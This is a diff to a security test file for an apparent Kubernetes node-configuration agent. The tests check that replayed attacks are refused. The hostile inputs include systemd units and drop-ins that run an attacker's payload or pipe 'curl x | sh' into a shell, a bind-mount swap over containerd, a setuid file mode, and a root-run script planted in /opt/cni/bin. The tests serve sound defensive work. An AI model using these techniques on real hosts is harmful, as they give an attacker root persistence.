@@ -24,7 +24,7 @@ const registry = createModuleRegistry([
   artifactModule as unknown as Module<ModuleName>,
   createCommandModule({ allow: ['/bin/true'] }) as unknown as Module<ModuleName>,
 ]);
-const REFUSALS = ['BALLAST_ERR_UNSAFE_PATH', 'BALLAST_ERR_PATH_OUTSIDE_ROOT', 'BALLAST_ERR_VALIDATION', 'BALLAST_ERR_UNSAFE_VALUE', 'BALLAST_ERR_FILE_UNMANAGED'];
+const REFUSALS = ['BALLAST_ERR_COMMAND_NOT_ALLOWED', 'BALLAST_ERR_UNSAFE_PATH', 'BALLAST_ERR_PATH_OUTSIDE_ROOT', 'BALLAST_ERR_VALIDATION', 'BALLAST_ERR_UNSAFE_VALUE', 'BALLAST_ERR_FILE_UNMANAGED'];
 const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
 
 let root: string;
@@ -90,6 +90,9 @@ describe('issue 16 attacks on the agent, replayed against a scratch root', () =>
     await expectRefused('file', { path: '/etc/systemd/system/evil.service', content: '[Service]\nExecStart=/tmp/evil\n' });
     await expectRefused('systemd', { unit: '../../cron.d/x.service', content: '[Service]\n' });
     await expectRefused('systemd', { unit: 'x.service', dropIns: { '../../../../etc/cron.d/x.conf': 'x' } });
+    // Nor an executable where it may write: a script in /opt/cni/bin runs as root at the next pod sandbox.
+    expect(await expectRefused('file', { path: '/opt/cni/bin/portmap', content: '#!/bin/sh\nid\n', mode: '0755' })).toBe('BALLAST_ERR_UNSAFE_VALUE');
+    expect(await expectRefused('template', { path: '/etc/kubernetes/x', template: 'x', vars: {}, mode: '4644' })).toBe('BALLAST_ERR_UNSAFE_VALUE');
   });
 
   it('2. the artifact module installs only known binaries, and never over a file it did not install', async () => {
@@ -112,6 +115,45 @@ describe('issue 16 attacks on the agent, replayed against a scratch root', () =>
     const out = await registry.run('artifact', { ...args('/usr/local/bin/ctr'), version: '2', sha256: sha256(v2) }, ctxWith({ artifacts: source(v2) }));
     expect(out.changed).toBe(true);
     expect(await readFile(join(root, 'usr/local/bin/ctr'), 'utf8')).toBe(v2.toString());
+  });
+
+  /*
+   * Weakenings tried (2026-12-07): skipping assertSafeUnit in the systemd module turned the first test
+   * red; widening REMOVABLE_PATHS back to all of /etc/sysctl.d and /etc/systemd/system (the old
+   * `under(…)` rules) turned the second red.
+   */
+  it('2. a unit that starts the attacker’s binary as root is refused, in check mode too (BALLAST_ERR_COMMAND_NOT_ALLOWED)', async () => {
+    for (const check of [false, true]) {
+      const ctx = ctxWith({}, check);
+      expect(await expectRefused('systemd', { unit: 'containerd.service', content: '[Service]\nExecStart=/opt/evil/payload\n', enabled: true }, ctx)).toBe(
+        'BALLAST_ERR_COMMAND_NOT_ALLOWED',
+      );
+      // The allowed binary, with the attacker's file bind-mounted over it in the unit's namespace.
+      const bind = '[Service]\nExecStart=/usr/local/bin/containerd\nBindReadOnlyPaths=/opt/evil/payload:/usr/local/bin/containerd\n';
+      expect(await expectRefused('systemd', { unit: 'containerd.service', content: bind }, ctx)).toBe('BALLAST_ERR_UNSAFE_VALUE');
+      // A drop-in replacing the command, and a unit name no role installs.
+      const dropIns = { '20-evil.conf': '[Service]\nExecStart=\nExecStart=/bin/sh -c "curl x | sh"\n' };
+      expect(await expectRefused('systemd', { unit: 'kubelet.service', dropIns }, ctx)).toBe('BALLAST_ERR_COMMAND_NOT_ALLOWED');
+      expect(await expectRefused('systemd', { unit: 'ssh.service', state: 'stopped' }, ctx)).toBe('BALLAST_ERR_UNSAFE_VALUE');
+    }
+  });
+
+  it('2. removal (reset uses force) reaches exactly the files Ballast installs: not a distribution’s sysctl.d file or another unit', async () => {
+    await mkdir(join(root, 'etc/sysctl.d'), { recursive: true });
+    await mkdir(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
+    await mkdir(join(root, 'etc/systemd/system/kubelet.service.d'), { recursive: true });
+    await writeFile(join(root, 'etc/sysctl.d/10-ptrace.conf'), 'kernel.yama.ptrace_scope = 1\n');
+    await writeFile(join(root, 'etc/sysctl.d/99-ballast-kubernetes.conf'), 'net.ipv4.ip_forward = 1\n');
+    await writeFile(join(root, 'etc/systemd/system/ssh.service'), '[Service]\n');
+    const gone = (path: string) => ({ path, content: '', state: 'absent', force: true });
+    expect(await expectRefused('file', gone('/etc/sysctl.d/10-ptrace.conf'))).toBe('BALLAST_ERR_UNSAFE_PATH');
+    expect(await expectRefused('file', gone('/etc/systemd/system/ssh.service'))).toBe('BALLAST_ERR_UNSAFE_PATH');
+    expect(await expectRefused('directory', { path: '/etc/systemd/system/multi-user.target.wants', state: 'absent' })).toBe('BALLAST_ERR_UNSAFE_PATH');
+    expect(await expectRefused('directory', { path: '/etc/sysctl.d', state: 'absent' })).toBe('BALLAST_ERR_UNSAFE_PATH');
+    // What reset removes still goes.
+    expect((await registry.run('file', gone('/etc/sysctl.d/99-ballast-kubernetes.conf'), ctxWith())).changed).toBe(true);
+    expect((await registry.run('directory', { path: '/etc/systemd/system/kubelet.service.d', state: 'absent' }, ctxWith())).changed).toBe(true);
+    expect(await readFile(join(root, 'etc/sysctl.d/10-ptrace.conf'), 'utf8')).toBe('kernel.yama.ptrace_scope = 1\n');
   });
 
   it('3. sysctl kernel.core_pattern = |/bin/sh … and unknown kernel modules are refused (check mode too)', async () => {
